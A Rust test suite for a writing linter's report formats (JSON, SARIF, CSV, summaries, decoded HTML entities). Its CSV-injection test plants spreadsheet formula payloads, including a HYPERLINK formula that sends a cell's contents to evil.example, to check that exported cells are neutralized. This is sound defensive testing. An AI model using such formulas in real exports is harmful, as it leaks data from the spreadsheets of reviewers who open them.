//! Reports for reviewers: the sentence around each finding in the machine
//! formats, CSV for spreadsheets, and summaries that put errors first.

use crate::common;
use common::*;

use std::process::Command;

use serde_json::Value;

/// Two sentences with findings, one with markup inside the match, and a
/// file with many infos but no error.
fn fixture() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("launch.md"),
        "Welcome aboard. The SRE **enables** access to\nChatGPT for agents! It is \
         powered by OpenAI.\n\n# Heading\n\nSay \"hi\", then: this enables access to data.\n",
    )
    .unwrap();
    let infos = "We like OpenAI. ".repeat(6);
    std::fs::write(dir.path().join("aaa-infos.md"), format!("{infos}\n")).unwrap();
    dir
}

const FIRST: &str = "The SRE enables access to ChatGPT for agents!";
const SECOND: &str = "Say \"hi\", then: this enables access to data.";

#[test]
fn json_ndjson_and_sarif_carry_the_sentence_as_context() {
    let dir = fixture();
    let r = run_in(dir.path(), &["--format", "json", "launch.md"], b"");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let contexts: Vec<&str> = v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["context"].as_str().unwrap())
        .collect();
    assert_eq!(contexts, [FIRST, SECOND]);
    // The existing keys are still there.
    assert_eq!(v["diagnostics"][0]["matched"], "enables** access to");

    let r = run_in(dir.path(), &["--format", "ndjson", "launch.md"], b"");
    let lines: Vec<Value> = r
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["context"], FIRST);
    assert_eq!(lines[1]["context"], SECOND);

    let r = run_in(dir.path(), &["--format", "sarif", "launch.md"], b"");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let results = v["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results[0]["properties"]["context"], FIRST);
    assert_eq!(results[1]["properties"]["context"], SECOND);
}

/// The rows of CSV output as Python's csv module reads them (strictly).
fn python_csv_rows(dir: &std::path::Path, csv: &str) -> Vec<Vec<String>> {
    let csv_path = dir.join("out.csv.data");
    std::fs::write(&csv_path, csv).unwrap();
    let script = "import csv, json, sys\n\
                  with open(sys.argv[1], newline='', encoding='utf-8') as f:\n\
                  \x20   print(json.dumps(list(csv.reader(f, strict=True))))\n";
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(&csv_path)
        .output()
        .expect("python3 runs");
    std::fs::remove_file(&csv_path).unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A cell as the CSV output writes it: a spreadsheet would run a value
/// that starts with one of these as a formula, so it gets a `'` first.
fn neutralized(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// Checks that the CSV output of `dir` reads back, through Python's csv
/// module, as the JSON output's diagnostics, row for row, each cell
/// neutralized; returns the rows after the header.
fn csv_matches_json(dir: &std::path::Path) -> Vec<Vec<String>> {
    let r = run_in(dir, &["--format", "csv", "."], b"");
    assert!(r.code <= 1, "{}", r.stderr);
    let rows = python_csv_rows(dir, &r.stdout);
    assert_eq!(
        rows[0],
        [
            "path",
            "location",
            "rule",
            "severity",
            "matched",
            "sentence",
            "message",
            "suggestion"
        ]
    );
    // Every row as JSON shows it, in the same order.
    let json = run_in(dir, &["--format", "json", "."], b"");
    let v: Value = serde_json::from_str(&json.stdout).unwrap();
    let diags = v["diagnostics"].as_array().unwrap();
    assert_eq!(rows.len() - 1, diags.len());
    for (row, d) in rows[1..].iter().zip(diags) {
        let suggestions: Vec<&str> = d["suggestions"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap())
            .collect();
        let location = format!("{}:{}", d["start"]["line"], d["start"]["column"]);
        let expected = [
            d["path"].as_str().unwrap(),
            &location,
            d["rule"].as_str().unwrap(),
            d["severity"].as_str().unwrap(),
            d["matched"].as_str().unwrap(),
            d["context"].as_str().unwrap(),
            d["message"].as_str().unwrap(),
            &suggestions.join("; "),
        ]
        .map(neutralized);
        assert_eq!(row, &expected);
    }
    rows[1..].to_vec()
}

#[test]
fn csv_round_trips_through_pythons_csv_module() {
    let dir = fixture();
    let r = run_in(dir.path(), &["--format", "csv", "."], b"");
    assert_eq!(r.code, 1, "{}", r.stderr);
    let rows = csv_matches_json(dir.path());
    assert!(rows.len() >= 8);
    // Quotes and commas in a field survive.
    assert!(rows.iter().any(|r| r[5] == SECOND));
}

/// OWASP's CSV injection: copy from outside the company must not plant a
/// formula in a reviewer's spreadsheet, whether through a sentence or a
/// file's name.
#[test]
fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
    let dir = tempfile::tempdir().unwrap();
    let files = [
        (
            "sheet.md",
            "=HYPERLINK(\"https://evil.example/?q=\"&A1, \"ChatGPT\") is here.\n",
        ),
        ("plus.md", "+SUM(1+1) runs ChatGPT today.\n"),
        ("minus.md", "-2+3 runs ChatGPT today.\n"),
        ("at.md", "@SUM(1+1) runs ChatGPT today.\n"),
        ("\ttab.md", "It runs ChatGPT today.\n"),
        ("\rreturn.md", "It runs ChatGPT today.\n"),
        ("=name.md", "It runs ChatGPT today.\n"),
        ("plain.md", "It runs ChatGPT today.\n"),
    ];
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    let rows = csv_matches_json(dir.path());
    assert_eq!(rows.len(), files.len(), "{rows:?}");
    let sentence = |path: &str| {
        rows.iter()
            .find(|r| r[0].trim_start_matches('\'') == path)
            .map(|r| r[5].clone())
            .unwrap_or_else(|| panic!("no row for {path:?}: {rows:?}"))
    };
    assert_eq!(
        sentence("sheet.md"),
        "'=HYPERLINK(\"https://evil.example/?q=\"&A1, \"ChatGPT\") is here."
    );
    assert_eq!(sentence("plus.md"), "'+SUM(1+1) runs ChatGPT today.");
    assert_eq!(sentence("minus.md"), "'-2+3 runs ChatGPT today.");
    assert_eq!(sentence("at.md"), "'@SUM(1+1) runs ChatGPT today.");
    assert_eq!(sentence("plain.md"), "It runs ChatGPT today.");
    let paths: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    for path in ["'\ttab.md", "'\rreturn.md", "'=name.md", "plain.md"] {
        assert!(paths.contains(&path), "{path:?} not in {paths:?}");
    }
    // No cell of any row starts a formula.
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
}

#[test]
fn csv_has_a_header_even_with_no_findings_and_no_summary() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("clean.md"), "Nothing to see.\n").unwrap();
    let r = run_in(dir.path(), &["--format", "csv", "."], b"");
    assert_eq!(r.code, 0);
    assert_eq!(
        r.stdout,
        "path,location,rule,severity,matched,sentence,message,suggestion\n"
    );
    let r = run_in(dir.path(), &["--format", "csv", "--summary", "."], b"");
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("--format csv"), "{}", r.stderr);
}

#[test]
fn summaries_list_files_with_errors_before_files_with_more_infos() {
    let dir = fixture();
    let r = run_in(
        dir.path(),
        &["--summary-only", "--format", "json", "."],
        b"",
    );
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let top = v["summary"]["top_files"].as_array().unwrap();
    assert_eq!(top[0]["path"], "launch.md");
    assert_eq!(top[0]["severity"], "error");
    assert_eq!(top[1]["severity"], "info");
    assert!(top[1]["findings"].as_u64() > top[0]["findings"].as_u64());
    let r = run_in(dir.path(), &["--summary-only", "."], b"");
    let errors_at = r.stdout.find("launch.md").unwrap();
    let infos_at = r.stdout.find("aaa-infos.md").unwrap();
    assert!(errors_at < infos_at, "{}", r.stdout);
}

/// An HTML page, and HTML inside Markdown, read as a browser shows them:
/// the sentence and the message hold `OpenAI’s`, not `OpenAI&rsquo;s`, in
/// every format; `matched` stays the source's text, for tools.
#[test]
fn html_references_are_shown_decoded_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("page.html"),
        "<p>Agents use OpenAI&rsquo;s models &amp; tools.</p>\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("notes.md"),
        "# Notes\n\n<p>Agents use OpenAI&rsquo;s models &amp; tools.</p>\n\n\
         Our agents use OpenAI&#x2019;s models.\n",
    )
    .unwrap();
    const SENTENCE: &str = "Agents use OpenAI\u{2019}s models & tools.";
    const MD_SENTENCE: &str = "Our agents use OpenAI\u{2019}s models.";
    const SHOWN: &str = "\"use OpenAI\u{2019}s models\" suggests";
    let args = |format| ["--format", format, "--color", "never", "."];

    let r = run_in(dir.path(), &args("json"), b"");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let diags = v["diagnostics"].as_array().unwrap();
    let seen: Vec<(&str, &str, &str)> = diags
        .iter()
        .map(|d| {
            (
                d["path"].as_str().unwrap(),
                d["matched"].as_str().unwrap(),
                d["context"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("notes.md", "use OpenAI&rsquo;s models", SENTENCE),
            ("notes.md", "use OpenAI&#x2019;s models", MD_SENTENCE),
            ("page.html", "use OpenAI&rsquo;s models", SENTENCE),
        ]
    );
    for d in diags {
        let message = d["message"].as_str().unwrap();
        assert!(message.starts_with(SHOWN), "{message}");
    }

    let r = run_in(dir.path(), &args("ndjson"), b"");
    let lines: Vec<Value> = r
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|l: &Value| l.get("rule").is_some())
        .collect();
    assert_eq!(lines.len(), 3);
    for (l, (_, _, sentence)) in lines.iter().zip(&seen) {
        assert_eq!(l["context"], *sentence);
        // Where the match lies in the sentence is where it reads.
        assert!(l["message"].as_str().unwrap().starts_with(SHOWN));
        let [start, end] =
            [0, 1].map(|i| l["place"]["context_match"][i].as_u64().unwrap() as usize);
        assert_eq!(&sentence[start..end], "use OpenAI\u{2019}s models");
    }

    let r = run_in(dir.path(), &args("sarif"), b"");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    for (result, (_, _, sentence)) in v["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .zip(&seen)
    {
        assert_eq!(result["properties"]["context"], *sentence);
        assert!(
            result["message"]["text"]
                .as_str()
                .unwrap()
                .starts_with(SHOWN)
        );
    }

    let r = run_in(dir.path(), &args("csv"), b"");
    let rows = python_csv_rows(dir.path(), &r.stdout);
    for (row, (_, matched, sentence)) in rows[1..].iter().zip(&seen) {
        assert_eq!((&*row[4], &*row[5]), (*matched, *sentence));
        assert!(row[6].starts_with(SHOWN), "{}", row[6]);
    }

    // Text formats show the message decoded (the human format's source
    // lines are the file's own).
    for format in ["human", "short", "github"] {
        let r = run_in(dir.path(), &args(format), b"");
        assert_eq!(r.stdout.matches(SHOWN).count(), 3, "{format}: {}", r.stdout);
    }

    let r = run_in(dir.path(), &args("html"), b"");
    let marked = "<mark>use OpenAI\u{2019}s models</mark>";
    assert_eq!(r.stdout.matches(marked).count(), 3, "{}", r.stdout);
    assert!(
        r.stdout
            .contains("Agents <mark>use OpenAI\u{2019}s models</mark> &amp; tools.")
    );
    assert!(!r.stdout.contains("rsquo"));
    assert!(!r.stdout.contains("#x2019"));
}
